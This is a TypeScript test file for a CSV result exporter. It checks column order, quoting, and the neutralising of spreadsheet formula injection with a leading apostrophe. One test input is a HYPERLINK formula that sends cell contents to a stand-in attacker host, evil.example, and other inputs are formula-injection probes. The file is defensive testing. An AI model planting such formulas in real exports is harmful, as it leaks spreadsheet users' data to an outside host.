import { ORDER_BATCH_RESULT_COLUMNS, type OrderBatchResult } from "@lotline/contract";
import { describe, expect, it } from "vitest";
import { resultCsvLine, resultsCsvHeader } from "./batch-results.js";

const COMPLETE: OrderBatchResult = {
  row: 1,
  status: "complete",
  reason: null,
  order_id: "ord_1",
  property_id: 7,
  external_id: "POL-1",
  address: "12 Elm St",
  parcel_source_id: "P-1",
  building_count: 1,
  parcel_area_m2: 500.5,
  footprint_area_m2: 120,
  flood_zone: "X",
  fire_station_distance_m: 800,
  hydrant_distance_m: 40,
};

/** The cells of a line that quotes nothing, keyed by column. */
function cells(line: string): Record<string, string> {
  const values = line.replace(/\r\n$/, "").split(",");
  return Object.fromEntries(ORDER_BATCH_RESULT_COLUMNS.map((column, i) => [column, values[i] ?? ""]));
}

describe("resultCsvLine", () => {
  it("writes the columns of the header in their order, an empty cell for null", () => {
    expect(resultsCsvHeader()).toBe(`${ORDER_BATCH_RESULT_COLUMNS.join(",")}\r\n`);
    expect(resultCsvLine(COMPLETE)).toBe("1,complete,,ord_1,7,POL-1,12 Elm St,P-1,1,500.5,120,X,800,40\r\n");
  });

  it("quotes a cell holding a comma or a quote, doubling the quotes", () => {
    const line = resultCsvLine({ ...COMPLETE, address: '12 Elm St, "rear"' });
    expect(line).toContain(',"12 Elm St, ""rear""",');
  });

  it("makes a client's text that a spreadsheet would run as a formula plain text with a leading '", () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"details")';
    expect(resultCsvLine({ ...COMPLETE, external_id: hyperlink })).toContain(
      `,"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")",`,
    );
    expect(cells(resultCsvLine({ ...COMPLETE, external_id: "+1" })).external_id).toBe("'+1");
    expect(cells(resultCsvLine({ ...COMPLETE, external_id: "-2" })).external_id).toBe("'-2");
    expect(cells(resultCsvLine({ ...COMPLETE, address: "@SUM(A1:A9)" })).address).toBe("'@SUM(A1:A9)");
    expect(cells(resultCsvLine({ ...COMPLETE, external_id: "\tPOL-1" })).external_id).toBe("'\tPOL-1");
    expect(resultCsvLine({ ...COMPLETE, external_id: "\rPOL-1" })).toContain(`,"'\rPOL-1",`);
    const rejected = { ...COMPLETE, status: "rejected" as const, reason: "=1+1", order_id: null };
    expect(cells(resultCsvLine(rejected)).reason).toBe("'=1+1");
  });

  it("leaves numbers as numbers: a negative figure is neither quoted nor prefixed", () => {
    const line = cells(resultCsvLine({ ...COMPLETE, parcel_area_m2: -12.5, hydrant_distance_m: -3 }));
    expect(line.parcel_area_m2).toBe("-12.5");
    expect(line.hydrant_distance_m).toBe("-3");
  });

  it("leaves a text with a formula character past its start alone", () => {
    expect(cells(resultCsvLine({ ...COMPLETE, external_id: "POL-=1+2@x" })).external_id).toBe("POL-=1+2@x");
  });
});
